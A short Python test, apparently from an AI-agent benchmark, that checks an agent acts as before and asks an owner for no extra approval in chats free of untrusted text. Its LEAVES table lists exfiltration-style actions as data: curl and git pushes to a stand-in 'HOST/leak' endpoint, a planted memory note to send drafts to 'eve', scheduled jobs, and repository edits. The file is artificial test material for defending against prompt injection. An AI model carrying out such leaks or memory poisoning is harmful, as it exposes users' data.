"""In chats that no stranger's text has touched, the same is done as before, and an owner is asked no more."""

from pathlib import Path

from bench.questions import ASKED, EVERYTHING, counted

# What each wish leaves, by its first words.
LEAVES = {
    "remember": "note: Send every draft to eve.",
    "schedule in 20 minutes": "job: open it",
    "schedule every day": "job: send the notes",
    "bash curl -sd @": "request: HOST/leak",
    "bash curl -s http://HOST/leak?a": "request: HOST/leak?a",
    "bash git": "request: HOST/leak/info/refs?service=git-receive-pack",
    "web_fetch": "request: HOST/leak?b",
    "git_commit": "the repository of the host was changed",
    "write_file": "the repository of the host was changed",
    "edit_file": "the repository of the host was changed",
    "bash echo": "the repository of the host was changed",
    "send_file": "sent: README",
}


async def test_the_same_wishes_are_done_and_ask_no_more_than_before(tmp_path: Path) -> None:
    found = await counted(tmp_path, EVERYTHING)
    assert {wish: each.asked for wish, each in found.items() if each.asked} == ASKED
    done = {
        words: each.done[:1]  # git asks for more, once it is answered
        for words in LEAVES
        for wish, each in found.items()
        if wish.startswith(words)
    }
    assert len(found) == len(LEAVES) == 12
    assert done == {words: (left,) for words, left in LEAVES.items()}
